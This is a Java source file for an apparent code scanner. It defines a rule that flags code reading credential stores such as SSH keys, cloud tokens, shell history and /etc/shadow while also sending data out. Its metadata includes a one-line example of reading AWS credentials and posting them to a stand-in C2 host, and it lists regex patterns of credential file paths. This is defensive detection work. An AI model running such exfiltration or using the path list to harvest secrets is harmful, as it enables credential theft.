package dev.kingsnake.rules.exfil;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.rules.shared.Indicator;
import dev.kingsnake.rules.shared.IndicatorRule;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.facts.Capability;

import java.util.EnumSet;
import java.util.List;
import java.util.Set;

/** Paths of credential files: SSH keys, cloud and registry credentials, shell history, system passwords. */
public final class SecretFilesRule extends IndicatorRule {

    private static final RuleInfo INFO = new RuleInfo("KS-EXFIL-SECRET-FILES",
            "Reads credential files (SSH keys, cloud/registry tokens, /etc/shadow) in code that sends data out",
            Severity.HIGH, Confidence.HIGH, Set.of(Tags.CREDENTIALS),
            "key = open(os.path.expanduser('~/.aws/credentials')).read(); requests.post('https://c2.example.invalid', data=key)",
            "Cloud SDKs, SSH and packaging tools name these paths to read their own configuration; a path alone is not "
                    + "reported, only one in a function (or, weaker, a file) that also sends data out, or several different "
                    + "credential stores named in one file (half weight when nothing in the file sends data: user-administration tools name /etc/passwd and /etc/shadow).");

    private static final List<Indicator> INDICATORS = List.of(
            Indicator.weak("SSH private key", "\\.ssh/(id_(rsa|dsa|ecdsa|ed25519)\\b|identity\\b)"),
            Indicator.weak("SSH directory", "(^|[~/}])\\.ssh/?$"),
            Indicator.weak("AWS credentials", "\\.aws/(credentials|config)\\b"),
            Indicator.weak("git credentials", "\\.git-credentials\\b"),
            Indicator.weak("PyPI credentials", "\\.pypirc\\b"),
            Indicator.weak("npm credentials", "(^|[~/}])\\.npmrc\\b"),
            Indicator.weak("netrc", "(^|[~/}])_?\\.?netrc\\b"),
            Indicator.weak("Docker credentials", "\\.docker/config\\.json"),
            Indicator.weak("Kubernetes credentials", "\\.kube/config\\b"),
            Indicator.weak("cloud CLI credentials", "\\.config/gcloud|\\.azure/(accesstokens|msal_token)"),
            Indicator.weak("shell history", "\\.(bash|zsh)_history\\b"),
            Indicator.weak("GnuPG keyring", "\\.gnupg/"),
            Indicator.weak("macOS keychain", "keychains/login\\.keychain"),
            Indicator.weak("FTP client saved sites", "filezilla/(recentservers|sitemanager)\\.xml"),
            Indicator.weak("system password hashes", "^/etc/shadow$"),
            Indicator.weak("system account list", "^/etc/passwd$"));

    public SecretFilesRule() {
        super(INFO, INDICATORS, EnumSet.of(Capability.SEND), true, "names a credential store");
    }
}
